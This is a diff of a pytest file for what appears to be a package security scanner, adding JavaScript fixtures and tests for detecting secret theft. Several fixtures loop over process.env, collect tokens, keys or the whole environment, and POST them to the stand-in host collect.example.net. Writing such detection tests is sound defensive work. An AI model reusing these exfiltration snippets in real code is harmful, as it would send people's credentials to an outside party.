@@ -134,6 +134,37 @@ fetch('https://collect.example.net/p', { method: 'POST', body: JSON.stringify(na
 for (const [k] of leak) fetch(`https://collect.example.net/p?k=${k}`);
 leak.forEach(([name, _v]) => fetch(`https://collect.example.net/q?k=${name}`));
 """,
+    # loops over the entries: under a test of the name (an `if`, or a guard `continue`), or every entry
+    "js-loop-if": """const out = {};
+for (const [k, v] of Object.entries(process.env)) {
+  if (k.includes('TOKEN') || k.includes('KEY')) out[k] = v;
+}
+fetch('https://collect.example.net/p', { method: 'POST', body: JSON.stringify(out) });
+""",
+    "js-loop-guard": """const found = [];
+for (const [name, value] of Object.entries(process.env)) {
+  if (!/secret|token/i.test(name)) continue;
+  found.push(value);
+}
+fetch('https://collect.example.net/p', { method: 'POST', body: found.join(',') });
+""",
+    "js-loop-whole": """const lines = [];
+for (const [k, v] of Object.entries(process.env)) {
+  if (k.includes('TOKEN')) console.log('token set');
+  lines.push(`${k}=${v}`);
+}
+fetch('https://collect.example.net/p', { method: 'POST', body: lines.join('\\n') });
+""",
+    "js-written": """const out = {};
+out.token = process.env.GITHUB_TOKEN;
+fetch('https://collect.example.net/p', { method: 'POST', body: JSON.stringify(out) });
+""",
+    "js-loop-names": """const names = [];
+for (const [k, v] of Object.entries(process.env)) {
+  if (k.endsWith('_API_KEY')) names.push(k);
+}
+fetch('https://collect.example.net/p', { method: 'POST', body: JSON.stringify(names) });
+""",
     "js-masked": """const keys = Object.entries(process.env).filter(([k]) => /token/i.test(k));
 for (const [k, v] of keys) console.log(k, v.slice(0, 2) + '****');
 """,
@@ -251,7 +282,23 @@ def test_js_selection_sent_by_curl_in_a_child_process(packages: dict[str, dict[s
         '(curl "https://collect.example.net/p?k=*&v=*")')
 
 
-@pytest.mark.parametrize("name", ["js-keys-only", "js-keys-sent", "js-masked"])
+@pytest.mark.parametrize(("name", "what"), [
+    ("js-loop-if", f"{CONTAIN} TOKEN or KEY (selected from process.env)"),
+    ("js-loop-guard", f"{CONTAIN} secret or token (selected from process.env, ignoring case)"),
+    ("js-loop-whole", "the whole environment (process.env)"),
+])
+def test_js_loops_over_the_entries(packages: dict[str, dict[str, Any]], name: str, what: str) -> None:
+    p = packages[name]
+    assert p["verdict"] == "block"
+    assert only(p, "js-secret-exfiltration-flow") == f"sends {what} in the request body to collect.example.net via fetch"
+
+
+def test_js_a_value_written_into_an_object_travels_with_it(packages: dict[str, dict[str, Any]]) -> None:
+    p = packages["js-written"]  # one named token: the flow is reported; its weight is the policy's (as when inline)
+    assert only(p, "js-credential-flow") == "sends GITHUB_TOKEN in the request body to collect.example.net via fetch"
+
+
+@pytest.mark.parametrize("name", ["js-keys-only", "js-keys-sent", "js-masked", "js-loop-names"])
 def test_js_negatives_are_not_escalated(packages: dict[str, dict[str, Any]], name: str) -> None:
     p = packages[name]
     assert p["verdict"] != "block"
